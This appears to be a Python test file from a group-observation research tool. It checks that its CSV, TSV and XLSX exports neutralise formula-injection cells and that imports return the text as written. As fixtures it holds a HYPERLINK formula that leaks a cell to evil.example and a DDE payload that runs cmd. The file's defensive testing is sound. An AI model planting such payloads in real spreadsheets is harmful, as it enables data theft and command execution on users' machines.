"""No CSV, TSV or XLSX cell can start a formula, and our own imports give the text back.

The hostile names and notes are the ones that leaked in practice: a pseudonym that is a
``HYPERLINK`` formula sending a neighbouring cell away, and "-Sam", which is a name.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from observer.domain.participants import member_key
from observer.formats import export_coding, import_file
from observer.formats.spreadsheet_cells import FORMULA_STARTS, neutralised, restored
from observer.storage.read_coding import from_coding
from observer.storage.store import Store, open_store
from observer.workspace.codings import new_coding
from observer.workspace.groups import MemberSpec, add_group, add_session, get_group
from observer.workspace.recording import Recorder

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
HOSTILE_NAMES = [LEAK, "-Sam", "+Priya", "@Tom", "'=Jo"]
HOSTILE_NOTES = ["=1+2", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "\t=tab", "''-quoted"]


@st.composite
def hostile_text(draw: Any) -> str:
    """Text that starts like a formula, perhaps behind quotes (trimmed, as imports trim)."""
    quotes = draw(st.text(alphabet="'", max_size=2))
    start = draw(st.sampled_from("=+-@"))
    rest = draw(st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=30))
    return (quotes + start + rest).strip()


@given(st.text() | hostile_text())
def test_a_neutralised_cell_never_starts_a_formula_and_reads_back_as_written(text: str) -> None:
    cell = neutralised(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restored(cell) == text


def test_text_that_cannot_start_a_formula_is_written_as_it_is() -> None:
    assert [neutralised(t) for t in ("Sam", "'s", "a=b", "", "12")] == [
        "Sam",
        "'s",
        "a=b",
        "",
        "12",
    ]
    assert [neutralised(t) for t in ("-Sam", "=1", "'=1")] == ["'-Sam", "'=1", "''=1"]


def hostile_coding(store: Store) -> tuple[int, int, dict[str, str]]:
    """A group whose pseudonyms are formulas, and a coding whose notes are; (coding, session)."""
    specs = [MemberSpec(n, initials=f"H{i}") for i, n in enumerate(HOSTILE_NAMES)]
    group_id = add_group(store, "=Group", "process", members=specs)
    keys = {m.pseudonym: member_key(m.id) for m in get_group(store, group_id).members}
    session_id = add_session(store, group_id)
    coding_id = new_coding(store, session_id, "RK", ["here-and-now", "bion"])
    recorder = Recorder(store, coding_id)
    people = list(keys.values())
    for i, note in enumerate(HOSTILE_NOTES):
        recorder.record(1000 * i, "feedback", people[i % len(people)],
                        [people[(i + 1) % len(people)]], note=note)  # fmt: skip
    recorder.close()
    return coding_id, session_id, keys


@pytest.fixture
def hostile(store: Store) -> tuple[int, int, dict[str, str]]:
    return hostile_coding(store)


def cells_of_table(path: Path, delimiter: str) -> Iterator[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh, delimiter=delimiter):
            yield from row


def cells_of_workbook(path: Path) -> Iterator[Any]:
    book = load_workbook(path)  # formulas as formulas, not their cached values
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_no_table_cell_starts_a_formula(
    store: Store, hostile: tuple[int, int, dict[str, str]], tmp_path: Path, fmt: str,
    delimiter: str,
) -> None:  # fmt: skip
    out = tmp_path / f"c.{fmt}"
    export_coding(store, hostile[0], fmt, out)
    cells = list(cells_of_table(out, delimiter))
    assert "'-Sam" in cells and "'" + LEAK in cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_no_workbook_cell_is_a_formula(
    store: Store, hostile: tuple[int, int, dict[str, str]], tmp_path: Path
) -> None:
    out = tmp_path / "c.xlsx"
    export_coding(store, hostile[0], "xlsx", out)
    cells = list(cells_of_workbook(out))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_STARTS)] == []
    assert "'-Sam" in texts and "'" + LEAK in texts


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
def test_our_import_gives_back_the_names_and_notes_as_written(
    store: Store, hostile: tuple[int, int, dict[str, str]], tmp_path: Path, fmt: str
) -> None:
    coding_id, session_id, _keys = hostile
    out = tmp_path / f"c.{fmt}"
    export_coding(store, coding_id, fmt, out)
    report = import_file(store, out, session=session_id, observer="IM")
    before, after = from_coding(store, coding_id), from_coding(store, report.coding_ids[0])

    def written(data: Any) -> list[tuple[str, tuple[str, ...], str]]:
        return [(data.label(e.actor), tuple(map(data.label, e.targets)), e.note)
                for e in data.events]  # fmt: skip

    assert written(after) == written(before)
    assert ("-Sam", ("+Priya",), "-2+3") in written(after)
    assert [note for *_people, note in written(after)] == HOSTILE_NOTES


@pytest.fixture(scope="module")
def note_coding(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, int, int]]:
    store = open_store(tmp_path_factory.mktemp("notes") / "notes.sqlite3")
    coding_id, session_id, _keys = hostile_coding(store)
    yield store, coding_id, session_id
    store.close()


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(note=hostile_text())
def test_any_hostile_note_is_inert_in_csv_and_xlsx_and_comes_back(
    note_coding: tuple[Store, int, int], tmp_path_factory: pytest.TempPathFactory, note: str
) -> None:
    store, coding_id, session_id = note_coding
    recorder = Recorder(store, coding_id)
    first = recorder.events[0]
    recorder.record(60_000 + 1000 * len(recorder.events), "feedback", first.actor,
                    first.targets, note=note)  # fmt: skip
    recorder.close()
    folder = tmp_path_factory.mktemp("hostile")
    csv_out, xlsx_out = folder / "c.csv", folder / "c.xlsx"
    export_coding(store, coding_id, "csv", csv_out)
    export_coding(store, coding_id, "xlsx", xlsx_out)
    assert [c for c in cells_of_table(csv_out, ",") if c.startswith(FORMULA_STARTS)] == []
    assert [c.coordinate for c in cells_of_workbook(xlsx_out) if c.data_type == "f"] == []
    for out in (csv_out, xlsx_out):
        back = from_coding(
            store, import_file(store, out, session=session_id, observer="IM").coding_ids[0]
        )
        assert [e.note for e in back.events] == [
            e.note for e in from_coding(store, coding_id).events
        ]
